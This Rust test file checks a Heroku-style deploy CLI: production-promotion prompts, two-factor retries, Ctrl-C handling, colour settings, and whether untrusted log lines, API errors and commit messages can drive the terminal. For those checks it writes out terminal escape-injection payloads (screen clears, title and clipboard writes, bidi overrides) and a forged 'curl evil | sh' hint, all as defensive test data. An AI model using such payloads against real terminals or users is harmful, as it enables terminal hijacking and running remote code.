//! At a real terminal: questions, colour, Ctrl-C, and nothing that the network says obeyed.

use std::time::Duration;

use rehearsal::{Exchange, Fault, history};
use serde_json::json;

use super::pty::{Pty, Shown};
use super::scene::Scene;

const ASKS: &str = "Promote to playhouse-production? [y/N] ";
const CODE: &str = "Two-factor code: ";

fn at_a_terminal(scene: &Scene, line: &str) -> Pty {
    with(scene, line, &[])
}

fn with(scene: &Scene, line: &str, variables: &[(&str, &str)]) -> Pty {
    let mut words = line.split(' ');
    let mut command = scene.prepared(words.next().expect("a program"));
    command.args(words).envs(variables.iter().copied());
    Pty::start(&command)
}

fn made(scene: &Scene, line: &str) -> Vec<Exchange> {
    scene.heroku().exchanges().into_iter().filter(|exchange| exchange.line() == line).collect()
}

/// Lets playhouse-staging write these lines.
fn say(scene: &Scene, lines: &[&str]) {
    scene.panel("POST", "/apps/playhouse-staging/logs", json!({ "lines": lines }));
}

/// Nothing but colour: each sequence is `ESC [ … m`.
fn assert_only_colors(shown: &Shown) {
    for sequence in shown.sequences() {
        assert!(
            sequence.starts_with("\u{1b}[") && sequence.ends_with('m'),
            "{sequence:?} in {:?}",
            shown.raw()
        );
    }
}

#[test]
fn a_no_promotes_nothing() {
    for answer in ["n\r", "\r", "yeah\r", "no\r"] {
        let scene = Scene::playhouse();
        let mut pty = at_a_terminal(&scene, "production promote");
        pty.sees(ASKS, 1);
        // The plan is there before the question.
        pty.sees("+ 77978f9 Print tickets at home", 1).types(answer);
        let shown = pty.ends(5);
        shown.closes_with("nothing was changed");
        assert_eq!(scene.promotions(), 0);
        assert_eq!(scene.runs("playhouse-production").1, history::MAIN[1]);
    }
}

#[test]
fn a_yes_promotes() {
    for answer in ["y\r", "YES\r"] {
        let scene = Scene::playhouse();
        let mut pty = at_a_terminal(&scene, "production promote");
        pty.sees(ASKS, 1).types(answer);
        let shown = pty.ends(0);
        shown.has("playhouse-production v19 77978f9\nhttps://playhouse-production-");
        assert_eq!(scene.runs("playhouse-production").1, history::MAIN[4]);
    }
}

#[test]
fn what_was_agreed_to_is_what_is_done() {
    let scene = Scene::playhouse();
    let mut pty = at_a_terminal(&scene, "production promote");
    pty.sees(ASKS, 1);
    let release =
        json!({"status": "succeeded", "commit": history::MAIN[3], "description": "Deploy 23280a3f"});
    scene.release("playhouse-production", release);
    pty.types("y\r");
    let shown = pty.ends(5);
    shown.has("playhouse-production got another release meanwhile");
    assert_eq!(scene.promotions(), 0);
}

#[test]
fn what_is_not_protected_is_not_asked_about() {
    let scene = Scene::playhouse();
    let shown = at_a_terminal(&scene, "staging promote").ends(0);
    assert!(!shown.raw().contains("[y/N]"));
    let shown = at_a_terminal(&scene, "production promote --yes").ends(0);
    assert!(!shown.raw().contains("[y/N]"));
}

#[test]
fn ctrl_d_and_ctrl_c_at_the_question_promote_nothing() {
    for (key, name) in [("\u{4}", "Ctrl-D"), ("\u{3}", "Ctrl-C")] {
        let scene = Scene::playhouse();
        let mut pty = at_a_terminal(&scene, "production promote");
        pty.sees(ASKS, 1).types(key);
        let shown = pty.end();
        assert!(shown.was_interrupted(), "{name}: {:?}", shown.status);
        assert!(name != "Ctrl-D" || shown.raw().ends_with('\n'), "the prompt comes next: {:?}", shown.raw());
        assert_eq!(scene.promotions(), 0);
    }
}

#[test]
fn a_pipe_on_stdin_is_nobody_to_ask() {
    let scene = Scene::playhouse();
    let outcome = scene.run("production promote");
    assert_eq!(outcome.status, Some(5), "{outcome}");
    assert!(outcome.stderr.contains("production is protected, and nobody can be asked here"), "{outcome}");
    assert_eq!(scene.promotions(), 0);
}

#[test]
fn a_two_factor_code_goes_with_the_request() {
    let scene = Scene::playhouse();
    scene.heroku().inject(Fault::two_factor("POST /pipeline-promotions", "123456", false));
    let mut pty = at_a_terminal(&scene, "production promote --yes");
    pty.sees(CODE, 1).types("654321\r");
    pty.sees(CODE, 2).types("123456\r");
    pty.ends(0);
    let posts = made(&scene, "POST /pipeline-promotions");
    let codes: Vec<_> =
        posts.iter().map(|post| post.headers.get("heroku-two-factor-code").map(String::as_str)).collect();
    assert_eq!(codes, [None, Some("654321"), Some("123456")]);
    assert_eq!(posts.iter().map(|post| post.status).collect::<Vec<_>>(), [403, 403, 201]);
    let others = scene.heroku().exchanges();
    let others = others.iter().filter(|exchange| exchange.line() != "POST /pipeline-promotions");
    assert_eq!(others.filter(|one| one.headers.contains_key("heroku-two-factor-code")).count(), 0);
    assert_eq!(scene.runs("playhouse-production").1, history::MAIN[4]);
}

#[test]
fn three_wrong_codes_are_enough() {
    let scene = Scene::playhouse();
    scene.heroku().inject(Fault::two_factor("POST /pipeline-promotions", "123456", false));
    let mut pty = at_a_terminal(&scene, "production promote --yes");
    for number in 1..=3 {
        pty.sees(CODE, number).types("000000\r");
    }
    let shown = pty.ends(4);
    assert_eq!(shown.raw().matches(CODE).count(), 3);
    assert_eq!(scene.promotions(), 4);
    assert_eq!(scene.runs("playhouse-production").1, history::MAIN[1]);
}

#[test]
fn a_two_factor_code_for_an_app_is_given_before() {
    let scene = Scene::playhouse();
    scene.heroku().inject(Fault::two_factor("POST /pipeline-promotions", "123456", true));
    let mut pty = at_a_terminal(&scene, "production promote --yes");
    pty.sees(CODE, 1).types("654321\r");
    pty.sees(CODE, 2).types("123456\r");
    pty.ends(0);
    let given = made(&scene, "PUT /apps/playhouse-production/pre-authorizations");
    let codes: Vec<&str> = given.iter().map(|put| put.headers["heroku-two-factor-code"].as_str()).collect();
    assert_eq!(codes, ["654321", "123456"]);
    let posts = made(&scene, "POST /pipeline-promotions");
    assert_eq!(posts.iter().map(|post| post.status).collect::<Vec<_>>(), [403, 201]);
    assert!(posts.iter().all(|post| !post.headers.contains_key("heroku-two-factor-code")));
    assert_eq!(scene.runs("playhouse-production").1, history::MAIN[4]);
}

#[test]
fn no_code_is_no_second_request() {
    let scene = Scene::playhouse();
    scene.heroku().inject(Fault::two_factor("POST /pipeline-promotions", "123456", false));
    let mut pty = at_a_terminal(&scene, "production promote --yes");
    pty.sees(CODE, 1).types("\r");
    pty.ends(4);
    assert_eq!(scene.promotions(), 1);
    let mut pty = at_a_terminal(&scene, "production promote --yes");
    pty.sees(CODE, 1).types("\u{3}");
    assert!(pty.end().was_interrupted());
    assert_eq!(scene.promotions(), 2);
}

const ROUTER: &str = "2024-01-01T00:00:00.000000+00:00 heroku[router]: at=info method=GET path=\"/seats\" \
                      host=playhouse-staging.herokuapp.com dyno=web.1 connect=0ms service=12ms status=200 bytes=512";
const WEB: &str = "2024-01-01T00:00:01.000000+00:00 app[web.1]: Sold seat 12";

#[test]
fn logs_are_in_colour_on_a_terminal_only() {
    let scene = Scene::quiet();
    say(&scene, &[ROUTER, WEB]);
    let shown = at_a_terminal(&scene, "staging logs -n 2").ends(0);
    assert_only_colors(&shown);
    let header = "2024-01-01T00:00:01.000000+00:00 app[web.1]:";
    assert!(!shown.raw().contains(&format!("{header} Sold")), "{}", shown.raw());
    assert!(shown.sequences().len() >= 4, "{:?}", shown.raw());
    // Wrapped at the terminal's edge, but every letter is there.
    let screen = shown.screen().replace('\n', "");
    assert!(screen.contains(ROUTER) && screen.contains(WEB), "{screen}");
    let piped = scene.run("staging logs -n 2");
    assert_eq!(piped.stdout, format!("{ROUTER}\n{WEB}\n"));
}

#[test]
fn colour_can_be_switched_off() {
    let scene = Scene::quiet();
    let own = "2024-01-01T00:00:02.000000+00:00 app[web.1]: \u{1b}[31mred\u{1b}[0m seat";
    say(&scene, &[WEB, own]);
    let cases: [(&str, &[(&str, &str)]); 4] = [
        ("staging logs -n 2", &[("NO_COLOR", "1")]),
        ("staging logs -n 2", &[("TERM", "dumb")]),
        ("staging logs -n 2 --no-color", &[]),
        ("staging --no-color logs -n 2", &[]),
    ];
    for (line, variables) in cases {
        let shown = with(&scene, line, variables).end();
        assert_eq!(shown.sequences(), [""; 0], "{line} {variables:?}: {:?}", shown.raw());
        assert!(shown.raw().ends_with("red seat\n"), "{:?}", shown.raw());
    }
    for (line, variables) in [
        ("production promote", [("NO_COLOR", "1")]),
        ("production promote", [("TERM", "dumb")]),
        ("production promote --no-color", [("A", "b")]),
        ("production nonsense --no-color", [("A", "b")]),
        ("production --help", [("NO_COLOR", "1")]),
        ("production --help", [("TERM", "dumb")]),
        ("production --no-color --help", [("A", "b")]),
        ("production --no-color logs --num x", [("A", "b")]),
    ] {
        let mut pty = with(&scene, line, &variables);
        if line.contains("promote") {
            pty.sees(ASKS, 1).types("n\r");
        }
        let shown = pty.end();
        assert_eq!(shown.sequences(), [""; 0], "{line} {variables:?}: {:?}", shown.raw());
    }
    let forced = scene.finish(scene.prepared("staging").args(["logs", "-n1"]).env("CLICOLOR_FORCE", "1"));
    assert!(forced.stdout.contains("\u{1b}["), "{forced}");
}

#[test]
fn log_lines_cannot_drive_the_terminal() {
    let scene = Scene::quiet();
    let hostile = [
        "2024 app[web.1]: first",
        "2024 app[web.1]: \u{1b}[2J\u{1b}[Hcleared",
        "2024 app[web.1]: \u{1b}]0;owned\u{7}titled",
        "2024 app[web.1]: \u{1b}]52;c;ZXZpbA==\u{1b}\\copied",
        "2024 app[web.1]: back\u{8}\u{8}space",
        "2024 app[web.1]: \u{9b}2Jeight bits",
        "2024 app[web.1]: \u{1b}[?1049halternate",
        "2024 app[web.1]: \u{1b}c reset",
        "2024 app[web.1]: \u{1b}[6n asks",
        "2024 app[web.1]: \u{1b}[1;31mbold red",
        "2024 app[web.1]: \u{202e}reversed",
    ];
    say(&scene, &hostile);
    for line in ["staging logs -n 11", "staging logs -n 11 --no-color"] {
        let shown = at_a_terminal(&scene, line).end();
        assert_only_colors(&shown);
        let screen = shown.screen();
        for text in [
            "2024 app[web.1]: first",
            r"\u{1b}[2J\u{1b}[Hcleared",
            r"\u{1b}]0;owned\u{7}titled",
            r"\u{1b}]52;c;ZXZpbA==\u{1b}\copied",
            r"back\u{8}\u{8}space",
            r"\u{9b}2Jeight bits",
            r"\u{1b}[?1049halternate",
            r"\u{1b}c reset",
            r"\u{1b}[6n asks",
            ": bold red",
            r"\u{202e}reversed",
        ] {
            assert!(screen.contains(text), "{line}: {text}\n{screen}");
        }
        assert_eq!(screen.trim_end().lines().count(), hostile.len(), "{screen}");
    }
}

#[test]
fn several_environments_cannot_drive_the_terminal() {
    let scene = Scene::quiet();
    let hostile =
        ["2024 app[web.1]: \u{1b}[2J\u{1b}]0;owned\u{7}go\u{8}ne", "2024 app[web.1]: \u{1b}[41mred for ever"];
    say(&scene, &hostile);
    let line = "greenroom on staging,prepare logs -n 2";
    for variables in [&[("HEROKU_LOGS_COLOR", "0")] as &[_], &[("NO_COLOR", "1")], &[]] {
        let shown = with(&scene, line, variables).ends(0);
        assert_only_colors(&shown);
        shown.has(r"\u{1b}[2J\u{1b}]0;owned\u{7}go\u{8}ne");
        let red = shown.raw().lines().find(|line| line.contains("for ever")).expect("a line").to_owned();
        let plain = variables.first().is_some_and(|(name, _)| *name == "NO_COLOR");
        assert!(if plain { !red.contains('\u{1b}') } else { red.ends_with("\u{1b}[0m") }, "{red:?}");
    }
    // The command's own errors come through a pipe too.
    let shown = at_a_terminal(&scene, "greenroom on staging,prepare logs -n \u{1b}[2J").ends(2);
    assert_only_colors(&shown);
    // A program reads what the command alone writes.
    let alone = scene.prepared("staging").args(["logs", "-n2"]).output().expect("staging").stdout;
    let both = scene.prepared("greenroom").args(["on", "staging,prepare", "logs", "-n2"]).output();
    let both = String::from_utf8(both.expect("greenroom").stdout).expect("UTF-8 here");
    let prefixed: String =
        both.split_inclusive('\n').filter_map(|line| line.strip_prefix("staging | ")).collect();
    assert_eq!(prefixed.as_bytes(), alone);
    assert_eq!(alone, (hostile.join("\n") + "\n").as_bytes());
}

#[test]
fn a_source_or_an_unfinished_colour_does_not_run_on() {
    let scene = Scene::quiet();
    say(&scene, &["2024 app[\u{1b}[2J]: tricky source", "2024 app[web.1]: \u{1b}[41mred for ever", WEB]);
    let shown = at_a_terminal(&scene, "staging logs -n 3").end();
    assert_only_colors(&shown);
    let terminal = shown.terminal();
    let at = shown.screen().lines().position(|line| line.contains("Sold seat")).expect("the last line");
    let cell = terminal.screen().cell(u16::try_from(at).expect("a row"), 50).expect("a cell");
    assert_eq!(cell.bgcolor(), vt100::Color::Default, "{:?}", shown.raw());
}

#[test]
fn an_api_message_cannot_drive_the_terminal() {
    let message = "\u{1b}[2J\u{1b}[H\u{1b}]0;owned\u{7}Couldn't\rfind\u{8} that \u{9b}31mapp.";
    let forged = Fault::answer("POST /apps/*/log-sessions", 422)
        .body(json!({ "id": "invalid", "message": "No.\nhint: curl evil | sh\nerror: \u{1b}[8mworse" }));
    let scene = Scene::playhouse();
    scene.heroku().inject(forged);
    let shown = at_a_terminal(&scene, "staging logs").end();
    let screen = shown.screen();
    assert!(screen.contains("  hint: curl evil | sh\n  error: "), "{screen}");
    assert_eq!(screen.lines().filter(|line| line.starts_with("hint: curl")).count(), 0, "{screen}");
    for (route, line) in [
        ("POST /apps/*/log-sessions", "staging logs"),
        ("POST /apps/*/log-sessions", "staging tail"),
        ("POST /filters/apps", "production promote"),
        ("GET /pipelines/**", "production promote"),
    ] {
        let scene = Scene::playhouse();
        let body = json!({ "id": "not\u{1b}[2Jfound", "message": message });
        scene.heroku().inject(Fault::answer(route, 422).body(body));
        let shown = at_a_terminal(&scene, line).end();
        assert_ne!(shown.code(), 0);
        assert_only_colors(&shown);
        assert!(shown.screen().contains(r"error: \u{1b}[2J\u{1b}[H"), "{line}: {}", shown.screen());
    }
}

#[test]
fn no_other_word_of_the_network_drives_the_terminal() {
    // A warning in a header, a reason of a failed promotion, the output of a release phase, an HTML page.
    let scene = Scene::playhouse();
    scene.heroku().inject(Fault::headers("GET /apps/*", "X-Heroku-Warning", "\u{9b}2J caf\u{e9}"));
    scene.heroku().inject(Fault::headers("GET /pipelines/**", "X-Heroku-Warning", "tab\tonly"));
    scene.heroku().inject(Fault::FailPromotion {
        app: "playhouse-production".into(),
        message: "no \u{1b}[2Jslug".into(),
    });
    let shown = at_a_terminal(&scene, "production promote --yes").ends(1);
    assert_only_colors(&shown);
    shown.has(r"no \u{1b}[2Jslug");

    let scene = Scene::playhouse();
    scene.with_release_phase("playhouse-prepare", "echo \u{1b}[2Jready");
    let shown = at_a_terminal(&scene, "production promote --yes").ends(0);
    assert_only_colors(&shown);
    shown.has(r"playhouse-production | \u{1b}[2Jready");

    let scene = Scene::playhouse();
    let page = Fault::answer("POST /apps/*/log-sessions", 404).body(json!("<h1>\u{1b}[2Jno such page</h1>"));
    scene.heroku().inject(page);
    let shown = at_a_terminal(&scene, "staging logs").end();
    assert_ne!(shown.code(), 0);
    assert_only_colors(&shown);
}

#[test]
fn what_is_typed_cannot_drive_the_terminal_either() {
    let scene = Scene::playhouse();
    let mut command = scene.prepared("staging");
    command.arg("\u{1b}[2Jps");
    let shown = Pty::start(&command).end();
    assert_only_colors(&shown);
    let mut command = scene.prepared("greenroom");
    command.args(["on", "\u{1b}[2Jqa", "ps"]);
    let shown = Pty::start(&command).ends(2);
    assert_only_colors(&shown);
    let mut command = scene.prepared("staging");
    command.args(["logs", "--num", "\u{1b}[2J"]);
    let shown = Pty::start(&command).ends(2);
    assert_only_colors(&shown);
    let mut command = scene.prepared("greenroom");
    command.arg("\u{1b}[2Jon");
    let shown = Pty::start(&command).ends(2);
    assert_only_colors(&shown);
}

#[test]
fn a_repository_cannot_drive_the_terminal() {
    let scene = Scene::playhouse();
    let commit = scene.commit("\u{1b}[2JRaise the curtain");
    let release = json!({ "commit": commit });
    scene.release("playhouse-prepare", release);
    let mut pty = at_a_terminal(&scene, "production promote");
    pty.sees(ASKS, 1).types("n\r");
    let shown = pty.end();
    assert_only_colors(&shown);
    shown.has(r"\u{1b}[2JRaise the curtain");
}

#[test]
fn ctrl_c_ends_a_tail_at_once() {
    for line in ["staging tail -n 3", "greenroom on staging,production tail -n 3", "staging tail -n 3 --json"]
    {
        let scene = Scene::playhouse();
        let mut pty = at_a_terminal(&scene, line);
        pty.sees("web.1", 1);
        let begun = std::time::Instant::now();
        pty.types("\u{3}");
        let shown = pty.end();
        assert!(shown.was_interrupted(), "{line}: {:?}\n{}", shown.status, shown.raw());
        assert!(begun.elapsed() < Duration::from_secs(2), "{line}");
        assert!(!shown.raw().contains("error:"), "{line}: {}", shown.raw());
    }
}

#[test]
fn ctrl_c_while_heroku_is_silent_ends_at_once() {
    let scene = Scene::playhouse();
    scene.heroku().inject(Fault::hang("POST /apps/*/log-sessions"));
    let mut pty = at_a_terminal(&scene, "staging --verbose logs");
    pty.sees("POST", 1).types("\u{3}");
    assert!(pty.end().was_interrupted());
}
